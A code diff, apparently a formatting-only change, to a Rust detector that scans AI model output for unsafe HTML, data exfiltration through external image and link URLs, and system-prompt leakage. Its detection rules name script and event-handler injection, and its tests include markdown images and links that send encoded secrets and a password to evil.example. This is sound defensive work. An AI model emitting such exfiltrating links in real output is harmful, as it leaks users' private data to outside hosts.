@@ -93,21 +93,32 @@ static IMAGE: LazyLock<Regex> = LazyLock::new(|| {
 });
 #[allow(clippy::expect_used, reason = "constant patterns, compiled by the tests")]
 static LINK: LazyLock<Regex> = LazyLock::new(|| {
-    Regex::new(&crate::ascii_boundaries(r#"(?i)\[[^\]]*\]\(\s*<?(https?://[^)\s>]+)|\bhttps?://[^\s)"'<>\]]+"#)).expect("link pattern")
+    Regex::new(&crate::ascii_boundaries(
+        r#"(?i)\[[^\]]*\]\(\s*<?(https?://[^)\s>]+)|\bhttps?://[^\s)"'<>\]]+"#,
+    ))
+    .expect("link pattern")
 });
 #[allow(clippy::expect_used, reason = "constant patterns, compiled by the tests")]
 static HTML: LazyLock<regex::RegexSet> = LazyLock::new(|| {
     regex::RegexSet::new(HTML_RULES.iter().map(|r| crate::ascii_boundaries(r.1))).expect("html patterns")
 });
 #[allow(clippy::expect_used, reason = "constant patterns, compiled by the tests")]
-static HTML_EACH: LazyLock<Vec<Regex>> = LazyLock::new(|| HTML_RULES.iter().map(|r| Regex::new(&crate::ascii_boundaries(r.1)).expect("html pattern")).collect());
+static HTML_EACH: LazyLock<Vec<Regex>> = LazyLock::new(|| {
+    HTML_RULES
+        .iter()
+        .map(|r| Regex::new(&crate::ascii_boundaries(r.1)).expect("html pattern"))
+        .collect()
+});
 
 const HTML_RULES: &[(&str, &str)] = &[
     ("script_tag", r"(?i)<\s*script\b"),
     ("event_handler", r#"(?i)<[a-z][^>]*?\son[a-z]{3,20}\s*=\s*["']?[^\s>]"#),
     ("javascript_url", r"(?i)\b(?:javascript|vbscript)\s*:"),
     ("embedded_frame", r"(?i)<\s*(?:iframe|object|embed|frameset|applet)\b"),
-    ("data_html_url", r"(?i)\bdata:\s*(?:text/html|image/svg\+xml|application/javascript)"),
+    (
+        "data_html_url",
+        r"(?i)\bdata:\s*(?:text/html|image/svg\+xml|application/javascript)",
+    ),
     ("meta_refresh", r#"(?i)<\s*meta\b[^>]*http-equiv\s*=\s*["']?refresh"#),
     ("form_action", r"(?i)<\s*form\b[^>]{0,300}\baction\s*="),
 ];
@@ -136,7 +147,13 @@ impl OutputDetector {
         if text.contains(['<', ':']) {
             for i in HTML.matches(text).iter() {
                 for m in HTML_EACH[i].find_iter(text) {
-                    out.push(Finding::new(Detector::UnsafeHtml, HTML_RULES[i].0, 0.9, m.start(), m.end()));
+                    out.push(Finding::new(
+                        Detector::UnsafeHtml,
+                        HTML_RULES[i].0,
+                        0.9,
+                        m.start(),
+                        m.end(),
+                    ));
                 }
             }
         }
@@ -148,12 +165,20 @@ impl OutputDetector {
         }
         let mut images = Vec::new();
         for c in IMAGE.captures_iter(text) {
-            let (Some(all), Some(url)) = (c.get(0), c.get(1).or_else(|| c.get(2))) else { continue };
+            let (Some(all), Some(url)) = (c.get(0), c.get(1).or_else(|| c.get(2))) else {
+                continue;
+            };
             images.push(all.range());
             let host = host_of(url.as_str());
             if !ctx.host_allowed(host) {
                 let score = if carries_data(url.as_str()) { 0.95 } else { 0.85 };
-                out.push(Finding::new(Detector::Exfiltration, "external_image", score, all.start(), all.end()));
+                out.push(Finding::new(
+                    Detector::Exfiltration,
+                    "external_image",
+                    score,
+                    all.start(),
+                    all.end(),
+                ));
             }
         }
         for c in LINK.captures_iter(text) {
@@ -163,7 +188,13 @@ impl OutputDetector {
             }
             let url = c.get(1).unwrap_or(all).as_str();
             if !ctx.host_allowed(host_of(url)) && carries_data(url) {
-                out.push(Finding::new(Detector::Exfiltration, "data_in_link", 0.8, all.start(), all.end()));
+                out.push(Finding::new(
+                    Detector::Exfiltration,
+                    "data_in_link",
+                    0.8,
+                    all.start(),
+                    all.end(),
+                ));
             }
         }
     }
@@ -183,8 +214,20 @@ fn host_of(url: &str) -> &str {
 fn carries_data(url: &str) -> bool {
     let rest = url.split_once("://").map_or(url, |(_, r)| r);
     let query = rest.split_once('?').map_or("", |(_, q)| q);
-    let longest_value = query.split('&').map(|kv| kv.split_once('=').map_or(kv, |(_, v)| v).len()).max().unwrap_or(0);
-    let longest_segment = rest.split('?').next().unwrap_or("").split('/').skip(1).map(str::len).max().unwrap_or(0);
+    let longest_value = query
+        .split('&')
+        .map(|kv| kv.split_once('=').map_or(kv, |(_, v)| v).len())
+        .max()
+        .unwrap_or(0);
+    let longest_segment = rest
+        .split('?')
+        .next()
+        .unwrap_or("")
+        .split('/')
+        .skip(1)
+        .map(str::len)
+        .max()
+        .unwrap_or(0);
     longest_value >= 16 || longest_segment >= 48 || query.len() >= 64
 }
 
@@ -193,7 +236,10 @@ fn overlap(text: &str, ctx: &OutputContext, out: &mut Vec<Finding>) {
     let need = LEAK_WORDS.min((ctx.prompt_words / 2).max(SHINGLE));
     let mut run_start: Option<usize> = None;
     let mut i = 0;
-    let windows: Vec<bool> = words.windows(SHINGLE).map(|w| ctx.shingles.contains(&shingle(w))).collect();
+    let windows: Vec<bool> = words
+        .windows(SHINGLE)
+        .map(|w| ctx.shingles.contains(&shingle(w)))
+        .collect();
     while i <= windows.len() {
         let hit = windows.get(i).copied().unwrap_or(false);
         match (hit, run_start) {
@@ -204,7 +250,13 @@ fn overlap(text: &str, ctx: &OutputContext, out: &mut Vec<Finding>) {
                     let start = words[s].1;
                     let end = words[i + SHINGLE - 2].2;
                     let score = (covered as f32 / need as f32).min(1.0);
-                    out.push(Finding::new(Detector::SystemPromptLeak, "prompt_overlap", score, start, end));
+                    out.push(Finding::new(
+                        Detector::SystemPromptLeak,
+                        "prompt_overlap",
+                        score,
+                        start,
+                        end,
+                    ));
                 }
                 run_start = None;
             }
@@ -237,11 +289,20 @@ mod tests {
     #[test]
     fn exfiltration_images_and_links() {
         let ctx = OutputContext::new(None, None, vec!["acme.com".into()]);
-        assert_eq!(kinds("![x](https://evil.example/p.png?d=c2VjcmV0IGRhdGEgaGVyZQ)", &ctx), ["external_image"]);
+        assert_eq!(
+            kinds("![x](https://evil.example/p.png?d=c2VjcmV0IGRhdGEgaGVyZQ)", &ctx),
+            ["external_image"]
+        );
         assert!(kinds("![logo](https://cdn.acme.com/logo.png)", &ctx).is_empty());
-        assert_eq!(kinds("[click](https://evil.example/?q=the+users+password+is+hunter2)", &ctx), ["data_in_link"]);
+        assert_eq!(
+            kinds("[click](https://evil.example/?q=the+users+password+is+hunter2)", &ctx),
+            ["data_in_link"]
+        );
         assert!(kinds("see https://docs.rs/regex for details", &ctx).is_empty());
-        assert_eq!(kinds("<img src=\"https://evil.example/x.gif\">", &ctx), ["external_image"]);
+        assert_eq!(
+            kinds("<img src=\"https://evil.example/x.gif\">", &ctx),
+            ["external_image"]
+        );
     }
 
     #[test]
